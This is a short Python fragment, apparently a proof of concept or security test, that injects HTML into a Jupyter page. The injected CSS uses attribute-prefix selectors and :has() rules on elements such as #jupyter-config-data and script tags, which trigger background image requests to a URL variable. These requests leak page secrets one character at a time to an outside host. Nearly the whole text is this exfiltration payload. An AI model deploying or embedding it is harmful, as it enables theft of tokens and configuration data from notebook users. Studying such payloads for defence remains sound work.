"""Selectors that tell one letter of the page's secrets at a time."""

html(f"<style>input[value^='a']{{background:url({URL}/a)}} #jupyter-config-data:has(*){{background:url({URL})}} script{{display:block;background:url({URL})}} body:has(.jp-Cell){{background:url({URL})}} *{{background:url({URL})}} :root{{--jp-ui-font-family:x;background:url({URL})}}</style><p>x</p>")
